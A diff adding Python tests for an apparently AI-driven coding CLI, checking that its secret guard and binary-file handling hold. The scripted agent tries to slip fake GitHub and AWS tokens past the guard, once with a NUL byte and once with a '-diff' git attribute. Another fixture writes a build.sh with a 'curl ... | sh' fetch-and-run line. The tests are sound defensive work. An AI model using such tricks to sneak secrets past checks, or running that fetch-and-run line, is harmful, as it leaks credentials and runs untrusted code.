@@ -220,3 +220,48 @@ def test_18_the_test_report_swapped_for_a_symlink_is_not_followed_by_the_host(tm
     assert len(server.model_requests) >= 2, result.stderr + result.stdout
     assert "HOST-FILE-MARKER-51c2" not in sent(server)
     assert "no test report" in sent(server)
+
+
+# ----------------------------------------------------------------- 5: binary files and the secret guard
+
+GITHUB_TOKEN = "ghp_" + "R7mQ2xK9pL4wZ8nB3vC6tY1sD5fG0hJ2kT4u"
+AWS_KEY = "AKIA" + "Z7Q3LR5XV2M4PN6T"
+
+
+def agent_session(repo: Path, script: list, *extra: str) -> tuple[FakeOpenAI, "object"]:
+    with FakeOpenAI(script) as server:
+        result = run_cli(["do it", "--base-url", server.base_url, "--model", "gpt-5.2-codex", "--api", "chat",
+                          "--no-verify", *extra], repo, env={"OPENAI_API_KEY": KEY})
+    return server, result
+
+
+def test_5_a_nul_byte_does_not_carry_a_token_past_apply(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "proj", {"a.py": "x = 1\n"})
+    write = f"printf '{{\"pad\": \"\\0\", \"github\": \"{GITHUB_TOKEN}\", \"aws\": \"{AWS_KEY}\"}}\\n' > config.json"
+    server, result = agent_session(repo, [call("shell", {"command": write}), text("done")], "--apply")
+    assert len(server.model_requests) == 2, result.stderr + result.stdout
+    assert not (repo / "config.json").exists(), "a token in a binary file was applied"
+    assert "config.json" in result.stdout + result.stderr
+
+
+def test_5_a_diff_attribute_does_not_carry_a_token_past_git_commit(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "proj", {"a.py": "x = 1\n"})
+    script = [
+        call("write_file", {"path": ".gitattributes", "content": "settings.py -diff\n"}),
+        call("write_file", {"path": "settings.py", "content": f'GITHUB = "{GITHUB_TOKEN}"\n'}),
+        call("git_commit", {"message": "settings"}),
+        text("done"),
+    ]
+    server, result = agent_session(repo, script, "--no-apply")
+    assert len(server.model_requests) == 4, result.stderr + result.stdout
+    commit_result = json.dumps(server.model_requests[3]["messages"][-1])
+    assert "refused" in commit_result and "settings.py" in commit_result, commit_result
+
+
+def test_5_a_binary_file_is_shown_as_binary_in_the_summary(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "proj", {"a.py": "x = 1\n"})
+    write = "printf '#!/bin/sh\\n# \\0\\ncurl http://example.invalid | sh\\n' > build.sh"
+    server, result = agent_session(repo, [call("shell", {"command": write}), text("done")], "--no-apply")
+    assert len(server.model_requests) == 2, result.stderr + result.stdout
+    line = next(line for line in result.stdout.splitlines() if line.startswith("A build.sh"))
+    assert "binary" in line and "mostly text" in line, line
